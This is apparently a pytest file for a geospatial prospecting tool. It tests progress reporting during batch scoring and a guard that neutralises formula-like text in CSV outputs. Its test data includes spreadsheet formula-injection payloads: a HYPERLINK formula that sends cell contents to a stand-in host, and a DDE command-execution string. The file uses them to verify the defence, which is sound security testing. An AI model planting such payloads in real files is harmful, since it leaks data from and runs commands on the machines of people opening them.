"""Progress counts rows as they finish (within a chunk, and from forked workers), stays silent
off a terminal; CSV outputs guard text a spreadsheet would run as a formula."""

from __future__ import annotations

import pandas as pd
import pytest
from _support import INSIDE, read_any, run, scratch_model, sites

from geoprospect.io.csvsafe import guard_frame

EVIL = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1 555 0100",
        "-2+3", "\tTab", "\rCR", "Plain", "-13.96", "+5", "1e-3"]
GUARDED = ["'" + e for e in EVIL[:6]] + EVIL[6:]


# --- progress ------------------------------------------------------------------------------

def test_rows_are_counted_as_slices_of_a_chunk_finish(monkeypatch, tmp_path):
    from geoprospect import pipeline
    from geoprospect.batch import pipeline as batch_pipeline
    from geoprospect.batch.chunks import iter_chunks

    monkeypatch.setattr(batch_pipeline, "PROGRESS_ROWS", 7)
    g = sites(30, seed=2)
    g.loc[g.index[3], "treo_pct"] = 150.0
    src = tmp_path / "s.parquet"
    g.to_parquet(src)
    ctx = batch_pipeline.context(batch_pipeline.Settings(model_path=str(scratch_model()), value_draws=3))
    [chunk] = list(iter_chunks(src, 100))
    calls: list[int] = []
    with_progress = batch_pipeline.score_chunk(chunk, ctx, progress=calls.append)
    assert calls == [1, 7, 7, 7, 7, 1]  # the rejected row at once, then slice by slice
    plain = batch_pipeline.score_chunk(chunk, ctx)
    assert with_progress.table.equals(plain.table)  # slices give the same rows
    assert pipeline.PROGRESS_ROWS > 7


def test_workers_report_rows_to_the_parent_as_they_finish(tmp_path):
    from geoprospect.batch import Settings, plan, run_local
    from geoprospect.batch.engine_local import Hooks

    src = tmp_path / "s.parquet"
    sites(40, seed=6).to_parquet(src, row_group_size=10)
    seen: list[int] = []
    summary = run_local(plan([src], tmp_path / "o.parquet", None),
                        Settings(model_path=str(scratch_model()), chunk_size=10, value_draws=3),
                        workers=2, hooks=Hooks(progress=seen.append))
    assert summary.workers == 2 and sum(seen) == 40


def test_rank_reports_progress_while_scoring(monkeypatch, deposits_gdf):
    from geoprospect import pipeline
    from geoprospect.io.validate import check, normalise

    monkeypatch.setattr(pipeline.ranking, "PROGRESS_ROWS", 2)  # rank reads it there
    gdf, _ = check(normalise(deposits_gdf))
    seen: list[int] = []
    valuation = pipeline.Valuation.load(draws=5)
    ranked = pipeline.rank(gdf, valuation=valuation, routes=0, progress=seen.append)
    assert seen == [2, 2, 1]
    plain = pipeline.rank(gdf, valuation=valuation, routes=0)
    pd.testing.assert_frame_equal(pd.DataFrame(ranked), pd.DataFrame(plain))


def test_bar_is_silent_off_a_terminal_and_with_quiet():
    from geoprospect.cli.progress import Bar

    with Bar("x", 10) as bar:  # pytest captures stderr: not a terminal
        bar.advance(3)
        assert not bar.enabled and bar._progress is None
    with Bar("x", 10, enabled=False) as bar:
        assert not bar.enabled


# --- CSV formula guard ----------------------------------------------------------------------

def test_guard_frame_text_only():
    import warnings

    frame = pd.DataFrame({"name": EVIL, "value": [-1.5] * len(EVIL)})
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # a user sees no pandas warning on every CSV written
        out = guard_frame(frame)
    assert out["name"].tolist() == GUARDED
    assert out["value"].tolist() == [-1.5] * len(EVIL)  # numbers are never touched
    assert frame["name"].tolist() == EVIL  # the input is not changed


def _evil_sites(tmp_path):
    lon, lat = INSIDE["MWI"]
    rows = "".join(f'e{i},"{e}",MWI,{lat},{lon},2,20,10\n' for i, e in enumerate(EVIL) if '"' not in e)
    rows += f'e0,"{EVIL[0].replace(chr(34), chr(34) * 2)}",MWI,{lat},{lon},2,20,10\n'
    src = tmp_path / "evil.csv"
    src.write_text("id,name,country,lat,lon,treo_pct,ndpr_pct,resource_mt\n" + rows.replace("\r", ""),
                   encoding="utf-8")
    return src


@pytest.mark.parametrize("command", ["rank", "score"])
def test_csv_outputs_are_guarded_unless_raw(tmp_path, command):
    src = _evil_sites(tmp_path)
    extra = ("--draws", 0) if command == "rank" else ()
    r = run(command, src, "-o", tmp_path / "g.csv", *extra)
    assert r.exit_code == 0, r.output
    names = set(read_any(tmp_path / "g.csv")["name"])
    assert "'" + EVIL[0] in names and "'" + EVIL[1] in names and "'+1 555 0100" in names
    assert "Plain" in names and "-13.96" in names and EVIL[0] not in names
    r = run(command, src, "-o", tmp_path / "raw.csv", "--raw-csv", *extra)
    assert r.exit_code == 0, r.output
    raw = set(read_any(tmp_path / "raw.csv")["name"])
    assert EVIL[0] in raw and "'" + EVIL[0] not in raw
